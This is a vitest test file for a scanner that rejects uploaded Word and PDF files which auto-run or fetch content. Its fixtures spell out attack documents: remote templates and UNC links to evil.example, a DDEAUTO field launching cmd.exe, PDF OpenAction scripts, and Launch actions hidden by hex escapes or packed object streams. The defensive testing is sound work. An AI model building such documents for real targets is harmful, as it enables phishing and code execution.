// Files from unknown senders: files that fetch, run or open something by themselves are refused in every spelling, and ordinary files are accepted.
import { deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { docxType, docxWith, pdfType, pdfWith } from '../file-text/testing/files.ts'
import { archiveOf } from '../upload/testing/workbook.ts'
import { harmOf } from './harmless.ts'
import { harmInReader } from './pdf-reader.ts'
import { isPlainLink } from './plain-link.ts'
import { external, field, office, packed, pdf, pdfOf, relation, relationsOf, word, wordPart } from './testing/files.ts'

const template = relation('attachedTemplate', 'http://evil.example/t.dotm', external)
const settings = (rels: string | Buffer) => word('', { 'word/_rels/settings.xml.rels': rels })
const linked = (rels: string, body: string, parts = {}) =>
  word(body, { 'word/_rels/document.xml.rels': relationsOf(rels), ...parts })

const inWord: { readonly [what: string]: Buffer } = {
  // The spellings of reported attacks.
  'a template of another computer': settings(relationsOf(template)),
  'the same with a prefix': settings(
    relationsOf(template)
      .replace('xmlns=', 'xmlns:p=')
      .replace(/<(\/?)Relation/g, '<$1p:Relation'),
  ),
  'the same behind a sign in an attribute': settings(relationsOf(template.replace('Id="r1"', 'Id="r>1"'))),
  'the same with a letter as a number': settings(relationsOf(template.replace('External', '&#69;xternal'))),
  'the same in UTF-16': settings(Buffer.from(`\ufeff${relationsOf(template)}`, 'utf16le')),
  'the same with the name of a link in another attribute': settings(
    relationsOf(template.replace('Id="r1"', 'Id="r1" x="/relationships/hyperlink"')),
  ),
  'a part in another format': linked(relation('aFChunk', 'chunk.rtf'), '<w:altChunk r:id="r1"/>', {
    'word/chunk.rtf': '{\\rtf1}',
  }),
  'a field that runs a program': word(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
  'a field that fetches a picture': word(field(' INCLUDEPICTURE "http://evil.example/p.png" \\d ')),
  // Similar spellings.
  'two parts of one name': Buffer.concat([doubled(relationsOf(), relationsOf(template))]),
  'a document type': settings(
    `<!DOCTYPE x [<!ENTITY e "External">]>${relationsOf(template.replace('External', '&e;')).replace(/^<\?.*\n/, '')}`,
  ),
  'another encoding': settings(relationsOf(template).replace('UTF-8', 'UTF-7')),
  'signs that are no UTF-8': settings(Buffer.concat([Buffer.from(relationsOf()), Buffer.from([0xc3, 0x28])])),
  'the word of a field in pieces': word(field(' DD', 'EAU', 'TO c:\\\\x.exe ')),
  'a field in an attribute': word('<w:p><w:fldSimple w:instr="&#73;NCLUDETEXT &quot;\\\\\\\\evil\\\\x&quot;"/></w:p>'),
  'a field whose word is another field': word(field('{', ' TITLE ', '}', ' PAGE ')),
  'a field put together of numbers': word(field(' QUOTE 68 68 69 65 85 84 79 ')),
  'a field without an end': word('<w:r><w:fldChar w:fldCharType="begin"/><w:instrText> PAGE </w:instrText></w:r>'),
  'a field that was deleted and may come back': word(
    field('').replace('<w:instrText></w:instrText>', '<w:delInstrText>LINK Excel.Sheet c:\\\\x</w:delInstrText>'),
  ),
  'a picture that fetches by the id of a link': linked(
    relation('hyperlink', 'http://evil.example/p.png', external),
    '<a:blip r:link="r1"/>',
  ),
  'an old picture that fetches by the id of a link': linked(
    relation('hyperlink', 'http://evil.example/p.png', external),
    '<v:imagedata o:relid="r1"/>',
  ),
  'an old picture with an address': word('<v:shape><v:imagedata src="\\\\evil.example\\p.png"/></v:shape>'),
  'a link to another computer': linked(relation('hyperlink', 'file://evil.example/x', external), ''),
  'a link field to another computer': word(field(' HYPERLINK "\\\\\\\\evil.example\\\\x" ')),
  'a link field behind its switches': word(field(' HYPERLINK \\o "My page" "file:///c:/x.exe" ')),
  'a link field without a blank': word(field(' HYPERLINK&quot;file://evil.example/s&quot; ')),
  'an instruction behind the end of another': word(
    field(' PAGE ').replace('<w:t>x</w:t>', '<w:instrText>DDEAUTO c:\\\\x.exe</w:instrText>'),
  ),
  'an instruction in no field': word('<w:r><w:instrText>DDEAUTO c:\\\\x.exe</w:instrText></w:r>'),
  'text inside an instruction': word(
    field(' ').replace('</w:instrText>', '</w:instrText><w:t>DDEAUTO c:\\\\x.exe</w:t>'),
  ),
  'an unknown mark of a field': word(field(' PAGE ').replaceAll('"begin"', '"BEGIN"').replaceAll('"end"', '"END"')),
  'the end of a field that did not begin': word('<w:r><w:fldChar w:fldCharType="end"/></w:r>'),
  'a field behind the sign of a formula': word(field(' =LINK Excel.Sheet &quot;\\\\\\\\evil\\\\x&quot; ')),
  'a path behind the sign of a formula': word(field(' =2+2 \\\\\\\\evil\\\\x ')),
  'a link from the settings': settings(relationsOf(relation('hyperlink', 'http://evil.example/', external))),
  'an address as a part inside': linked(relation('image', 'http://evil.example/p.png'), ''),
  'a relation of another maker': word('', {
    '_rels/.rels': relationsOf(
      relation('http://schemas.microsoft.com/office/2007/relationships/ui/extensibility', 'ui.xml'),
    ),
    'ui.xml': '<customUI/>',
  }),
  'a part whose name hides what it is': word('', { 'word/main.foo': '<w/>' }),
  'a part that is called otherwise': word('', { 'word/_rels/settings.xml%2Erels': relationsOf(template) }),
  'macros by their kind alone': word('', {
    '[Content_Types].xml':
      '<Types><Override ContentType="application/vnd.ms-word.document.m&#97;croEnabled.main+xml"/></Types>',
  }),
  'a style sheet': word('', {
    'word/header1.xml': `<?xml-stylesheet href="http://evil.example/x.xsl"?>${wordPart('', 'hdr')}`,
  }),
  'a film of a page elsewhere': word('<w:webVideoPr embeddedHtml="x"/>'),
  'data to fill in from elsewhere': word('', { 'word/settings.xml': wordPart('<w:mailMerge/>', 'settings') }),
}
/** An archive with two parts of one name. */
function doubled(first: string, second: string): Buffer {
  const name = 'word/_rels/settings.xml.rels'
  const file = word('', { [name]: first, [name.replace('word', 'wor_')]: second })
  return Buffer.from(file.toString('latin1').replaceAll('wor_/', 'word/'), 'latin1')
}

const runs = '<</S/JavaScript/JS(app.alert(1))>>'
const opens = '<</S/URI/URI(http://evil.example/)>>'
/** Packed objects of which a check reads one and a reader two. */
const countedAs = (from: string | RegExp, to: string): Buffer =>
  pdf('', Buffer.from(packed(['null', runs]).toString('latin1').replace(from, to), 'latin1'), '2')
const hiddenByCount = {
  'packed objects whose count is behind a reference': countedAs('/N 2', '/N 1 000000 R'),
  'packed objects whose count is behind an ordinary reference': countedAs('/N 2', '/N 5 0 R'),
  'packed objects that begin behind a reference': countedAs(/\/First \d+/, '/First 5 0 R'),
  'packed objects with two counts': countedAs('/N 2', '/N 2/N 1'),
  'packed objects with a fraction as their count': countedAs('/N 2', '/N 1.9'),
}
const inPdf: { readonly [what: string]: Buffer } = {
  // The spellings of reported attacks.
  'an address that opens': pdf('/OpenAction<</S/URI/URI(http://evil.example/)>>'),
  'a file of another computer': pdf('/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\x.pdf)/D[0/Fit]>>'),
  'a file inside': pdf('', '<</Type/Annot/A<</S/GoToE/F(\\\\\\\\evil.example\\\\x.pdf)>>>>'),
  'a script among packed objects': pdf('/OpenAction 100 0 R', packed([runs])),
  // Similar spellings.
  'an action of a page': pdf('', `<</Type/Page/AA<</O ${opens}>>>>`),
  'an action of a page behind a reference': pdf('', '<</Type/Page/AA 100 0 R>>', packed([`<</O ${opens}>>`])),
  'an action behind a reference': pdf('/OpenAction 100 0 R', packed([opens])),
  'an action in an earlier version': pdf('/OpenAction 4 0 R', '[3 0 R/Fit]', `4 0 obj${opens}`),
  'an action that is not there': pdf('/OpenAction 50 0 R'),
  'a second action behind a harmless one': pdf(`/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next ${opens}>>`),
  'a kind of action behind a reference': pdf('', '<</S 5 0 R/JS 6 0 R>>', '/JavaScript', '(app.alert(1))'),
  'a name with numbers': pdf('', '<</S/L#61u#6Ech/F(cmd.exe)>>'),
  'a name with numbers among packed objects': pdf('', packed(['<</S/#4caunch/F(cmd.exe)>>'])),
  'packed objects without their type': pdf(
    '',
    Buffer.from(packed([runs]).toString('latin1').replace('/Type/ObjStm', ''), 'latin1'),
  ),
  'packed objects whose type is behind a comment': pdf(
    '',
    Buffer.from(packed([runs]).toString('latin1').replace('/First', '/#46irst%\n'), 'latin1'),
  ),
  'packed objects that are not packed': pdf(
    '',
    packed([runs], '', (bytes) => bytes),
  ),
  'objects packed twice': pdf(
    '',
    packed([runs], '/Filter[/FlateDecode/FlateDecode]', (bytes) => deflateSync(deflateSync(bytes))),
  ),
  'objects packed in letters': pdf(
    '',
    packed([runs], '/Filter/ASCIIHexDecode', (bytes) => Buffer.from(bytes.toString('hex'))),
  ),
  'objects behind a predictor': pdf('', packed([runs], '/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>')),
  'packed objects that are damaged': pdf(
    '',
    packed([runs], '/Filter/FlateDecode', () => Buffer.from('x\u009cdamaged')),
  ),
  'objects that unfold without end': pdf('', packed([' '.repeat(80_000_000)])),
  'an object behind a comment': pdfOf([Buffer.from(`1 0%\n obj%comment\n${runs}endobj`)]),
  'a catalogue in the trailer': pdfOf([], `<</Root<</Type/Catalog/OpenAction${opens}>>>>`),
  'a link to a file': pdf('', '<</Type/Annot/A<</S/URI/URI(file:///c:/x.exe)>>>>'),
  'a link in numbers': pdf('', `<</Type/Annot/A<</S/URI/URI<${Buffer.from('\\\\evil\\x').toString('hex')}>>>>>`),
  'a link in wide letters': pdf('', `<</Type/Annot/A<</S/URI/URI<feff${wide('smb://evil/x')}>>>>>`),
  'a stream that lies elsewhere': pdf('', '<</F(\\\\\\\\evil\\\\x)/Length 0>>stream\n\nendstream'),
  'a picture of a page elsewhere': pdf(
    '',
    '<</Subtype/Form/Ref<</F(\\\\\\\\evil\\\\x)/Page 0>>/Length 0>>stream\n\nendstream',
  ),
  'a form of another kind': pdf('/AcroForm<</XFA 4 0 R>>'),
  // Numbers that readers take, in other spellings than the usual one.
  'an action behind a generation of many digits': pdf('/OpenAction 4 000000 R', opens),
  'an action behind a number of many digits': pdf('/OpenAction 00000000004 0 R', opens),
  'an action behind a number with a sign': pdf('/OpenAction +4 0 R', opens),
  'an action behind a number with a fraction': pdf('/OpenAction 4.0 0 R', opens),
  'an action far behind its number': pdfOf([
    Buffer.from('1 0 obj<</Type/Catalog/OpenAction 4 0 R>>endobj\n4 0 obj[3 0 R/Fit]endobj\n'),
    Buffer.from(`4${' '.repeat(300)}0 obj${opens}endobj\n`),
  ]),
  'an action whose number has a comment behind it': pdfOf([
    Buffer.from('1 0 obj<</Type/Catalog/OpenAction 4 0 R>>endobj\n4 0 obj[3 0 R/Fit]endobj\n'),
    Buffer.from(`4 %${'x'.repeat(300)}\n0 obj${opens}endobj\n`),
  ]),
  'an action in the middle of whose number the table leads': pdfOf([
    Buffer.from('1 0 obj<</Type/Catalog/OpenAction 4 0 R>>endobj\n4 0 obj[3 0 R/Fit]endobj\n'),
    Buffer.from(`14 0 obj${opens}endobj\n`),
  ]),
  'a link to a file behind a long generation': pdf(
    '',
    '<</Type/Annot/A<</S/URI/URI 5 000000 R>>>>',
    '(file://evil.example/share/x)',
  ),
  'a stream whose file is behind a long generation': pdf(
    '',
    '<</F 5 000000 R/Length 0>>stream\n\nendstream',
    '(\\\\\\\\evil\\\\x)',
  ),
  'a thread of another file': pdf('', '<</A<</S/Thread/F(\\\\\\\\evil.example\\\\x.pdf)/D 0>>>>'),
  'actions in a stream': pdf('/AA 4 0 R', `<</WC ${opens}/Length 0>>stream\n\nendstream`),
  'actions of a page in an ordinary stream': pdf('/AA 4 0 R', '<</Length 0>>stream\n\nendstream'),
  'a dictionary without its pairs': pdf('', '<</A 1 2/OpenAction[3 0 R/Fit]>>'),
  ...hiddenByCount,
  'values nested without end': pdf('', '['.repeat(5_000)),
  'objects inside each other without end': pdf('', 'obj['.repeat(90_000)),
}
function wide(text: string): string {
  return [...text].map((sign) => sign.charCodeAt(0).toString(16).padStart(4, '0')).join('')
}

describe('a Word file is refused with', () => {
  it.each(Object.keys(inWord))('%s', async (what) => {
    expect(await harmOf(inWord[what] as Buffer, docxType)).toMatch(/holds scripts|is damaged/)
  })
})
describe('a PDF is refused with', () => {
  it.each(Object.keys(inPdf))('%s', async (what) => {
    expect(await harmOf(inPdf[what] as Buffer, pdfType)).toMatch(/holds scripts|is damaged/)
  })
  it('a password, in the table of contents too', async () => {
    expect(await harmOf(pdf('', '<</Type/XRef/Encrypt 9 0 R/Length 0>>stream\n\nendstream'), pdfType)).toMatch(
      /password/,
    )
    expect(await harmOf(pdfOf([], '<</Root 1 0 R/Encrypt 9 0 R>>'), pdfType)).toMatch(/password/)
  })
})

it('a PDF is refused with what the second reader finds', async () => {
  const link = (target: string) =>
    pdf('', '12')
      .toString('latin1')
      .replace('/Resources', `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(${target})>>>>]/Resources`)
  expect(await harmInReader(Buffer.from(link('file://evil.example/x'), 'latin1'))).toMatch(/holds scripts/)
  expect(await harmInReader(Buffer.from(link('https://example.com/x'), 'latin1'))).toBeNull()
  expect(await harmInReader(pdf(`/OpenAction${runs}`))).toMatch(/holds scripts/)
  expect(await harmInReader(pdf('/OpenAction<</S/Named/N/Print>>'))).toMatch(/holds scripts/)
  expect(await harmInReader(Buffer.from('%PDF-1.7 nothing'))).toMatch(/damaged/)
})

describe('ordinary files are accepted', () => {
  const kinds: { readonly [what: string]: Buffer } = {
    'texts of our own': docxWith('Riwayat hidup'),
    'links, pictures, styles and fields': word(
      [
        field(' PAGE \\* MERGEFORMAT '),
        field(' TOC \\o "1-3" \\h \\z \\u ', '{', ' HYPERLINK \\l "_Toc1" ', '}'),
        field(' HYPERLINK "https://www.linkedin.com/in/sri" \\o "My page: all" \\t "_blank" '),
        '<w:hyperlink r:id="r1"><w:r><w:t>DDEAUTO and /JavaScript as words</w:t></w:r></w:hyperlink>',
        '<a:blip r:embed="r2"/><v:shape href="https://example.com/"/>',
        field(' HYPERLINK&quot;https://example.com/&quot; '),
        field(' =SUM(ABOVE)*2 \\# &quot;#.##0,00&quot; \\* MERGEFORMAT '),
        field(' =ROUND(A1+B2;0) '),
        '<w:fldSimple w:instr=" NUMPAGES "/>',
      ].join(''),
      {
        'word/_rels/document.xml.rels': relationsOf(
          relation('hyperlink', 'mailto:sri@mail.co.id', external),
          relation('image', 'media/foto%20saya.png').replace('r1', 'r2'),
          relation('styles', 'styles.xml').replace('r1', 'r3'),
          relation('http://schemas.microsoft.com/office/2018/08/relationships/commentsExtensible', 'c.xml').replace(
            'r1',
            'r4',
          ),
          relation(`${office.replace('officeDocument', 'officedocument')}/metadata/core-properties`, 'd.xml').replace(
            'r1',
            'r5',
          ),
        ),
        'word/media/foto%20saya.png': Buffer.from([0x89, 0x50]),
        'word/styles.xml': `<?mso-application progid="Word.Document"?>${wordPart('', 'styles')}`,
        'word/media/': '',
      },
    ),
  }
  it.each(Object.keys(kinds))('%s', async (what) => {
    expect(await harmOf(kinds[what] as Buffer, docxType)).toBeNull()
  })
  const papers: { readonly [what: string]: Buffer } = {
    'a first page to begin with': pdf('/OpenAction[3 0 R/Fit]'),
    'a first page behind a reference': pdf('/OpenAction 100 0 R', packed(['<</S/GoTo/D[3 0 R/Fit]>>'])),
    'links to the web': pdf(
      '',
      '<</Type/Annot/A<</S/URI/URI(https://www.linkedin.com/in/sri)>>>>',
      '<</A<</S/URI/URI(www.x.com)>>>>',
    ),
    'words about scripts': pdf(
      '',
      '<</Length 44>>stream\n(HTML/CSS/JS and /JavaScript, /Launch) Tj\nendstream',
      '(/JS /AA)',
    ),
    'a letter of a font with the name of an action': pdf('', '<</AA 5 0 R>>', '<</Length 0>>stream\n\nendstream'),
    'words with the letters of an object': pdf(
      '/OpenAction 6 0 R',
      '<</Title(Career objective)>>',
      '<</Length 44>>stream\n(My objective: to be an objective [R]) Tj\nendstream',
      '[3 0 R/Fit]',
    ),
    'an object with a longer number of the same end': pdf(
      '/OpenAction 4 0 R',
      '[3 0 R/Fit]',
      ...Array.from({ length: 9 }, () => '<</Type/StructElem/S/P>>'),
      '<</Type/StructElem/S/Span>>',
    ),
    'packed objects': pdf('', packed(['<</Type/Font/BaseFont/AAAAAA+Calibri>>', '12', '(text)'])),
  }
  it.each(Object.keys(papers))('%s', async (what) => {
    expect(await harmOf(papers[what] as Buffer, pdfType)).toBeNull()
  })
  it('objects behind very many blanks', async () => {
    const file = pdf('', '12')
      .toString('latin1')
      .replace('4 0 obj', `4${' '.repeat(500_000)}0 obj`)
    expect(await harmOf(Buffer.from(file, 'latin1'), pdfType)).toBeNull()
  })
  it('a PDF that a program wrote', async () => {
    expect(await harmOf(await pdfWith('Curriculum vitae', 'Pendidikan'), pdfType)).toBeNull()
  })
})

it.each([
  ['https://example.com/a:b', true],
  ['HTTP://example.com', true],
  ['mailto:a@b.id', true],
  ['tel:+62812', true],
  ['example.com:8080/cv', true],
  ['#top', true],
  ['', true],
  ['page.html?x=a:b', true],
  ['\\\\evil\\x', false],
  ['//evil/x', false],
  ['file:///c:/x', false],
  ['f\u200bile:x', false],
  ['java\nscript:x', false],
  ['ms-word:ofe|u|http://x', false],
  ['c:\\x.exe', false],
  ['..\\x.exe', false],
  ['file%3a//evil/x', false],
])('the link %j is plain: %s', (target, isPlain) => {
  expect(isPlainLink(target)).toBe(isPlain)
})

it('an archive without a document is refused', async () => {
  expect(await harmOf(archiveOf({ '[Content_Types].xml': '<Types/>' }), docxType)).toMatch(/damaged/)
})
